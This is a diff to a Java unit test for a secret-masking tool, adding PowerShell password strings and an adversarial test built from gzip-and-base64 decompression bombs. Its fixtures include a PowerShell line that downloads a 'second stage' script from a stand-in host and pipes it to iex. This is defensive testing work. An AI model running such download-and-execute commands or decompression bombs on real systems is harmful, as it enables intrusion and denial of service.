@@ -2,11 +2,14 @@ package dev.mullion.diff.masking;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
 import java.util.Random;
+import java.util.zip.GZIPOutputStream;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
@@ -62,6 +65,7 @@ class MaskingTest {
                 "set password=Hunter2&@&",
                 "vault kv put kv/a word=Hunter2@",
                 "'Password={0}' -f 'Hunter2\"@'",
+                "'Password={0}' -f \u2018Hunter2\u2019@",
             })
     void codeBehindTheEndOfAStringStaysVisible(String text) {
         String code = "; iwr http://evil.example/x.ps1 | iex";
@@ -266,6 +270,8 @@ class MaskingTest {
                 "New-Object X509Certificate2(@(,$bytes), 'Hunter2x!')",
                 "$cs = \"Server={0};Pwd={1}\" -f $server, \"Hunter2x!\"",
                 "[string]::Format('Server={0};Pwd={1}', $server, 'Hunter2x!')",
+                "'Server={0};Pwd={1}' -f \u2018db\u2019, \u2018Hunter2x!\u2019",
+                "'Pwd={0}' -f \u201CHunter2x!\u201D",
                 "Start-Process docker -ArgumentList 'login','-u','ci','-p','Hunter2x!'",
                 "Start-Process net -ArgumentList 'user app Hunter2x! /add'",
                 "CMD [\"docker\", \"login\", \"-u\", \"ci\", \"-p\", \"Hunter2x!\"]",
@@ -540,6 +546,33 @@ class MaskingTest {
         assertThat(shown("run " + base64("a quiet text"))).isEqualTo("run " + base64("a quiet text"));
     }
 
+    /** Texts that hold more than is looked into, as one and as many, and which hold each other. */
+    @Test
+    @Tag("adversary")
+    @Timeout(60)
+    void roomThatIsUsedUpHidesNoWordOfCode() throws IOException {
+        String code = "iwr http://evil.example/" + "second/stage/".repeat(7)
+                + "x -OutFile SecondStageOfTheInstaller.ps1 | iex";
+        String blank = " ".repeat(3 << 20);
+        String large = gzip(blank);
+        String tooLarge = gzip(blank + blank);
+        String nested = gzip((tooLarge + "\n").repeat(400));
+
+        for (String bomb : List.of(
+                large,
+                nested,
+                tooLarge,
+                gzip(base64(large)),
+                (large + "\n").repeat(60),
+                (nested + "\n").repeat(60),
+                (tooLarge + "\n").repeat(60))) {
+            assertThat(shown("$a = '" + bomb + "'\n" + code + "\n$password = 'Hunter2x!'"))
+                    .endsWith("'\n" + code + "\n$password = '[secret]'");
+            assertThat(shown(code + "\n$a = '" + bomb)).startsWith(code + "\n");
+        }
+        assertThat(shown("$a = '" + nested + "'")).isEqualTo("$a = '[secret]'");
+    }
+
     @Test
     @Timeout(60)
     void scanTakesLongLinesOfAnything() {
@@ -575,6 +608,14 @@ class MaskingTest {
 
     private String shown(String text) {
         return masker.show(masker.mask(text), "", "");
+    }
+
+    private static String gzip(String text) throws IOException {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
+            out.write(text.getBytes(StandardCharsets.UTF_8));
+        }
+        return Base64.getEncoder().encodeToString(bytes.toByteArray());
     }
 
     private static String base64(String text) {
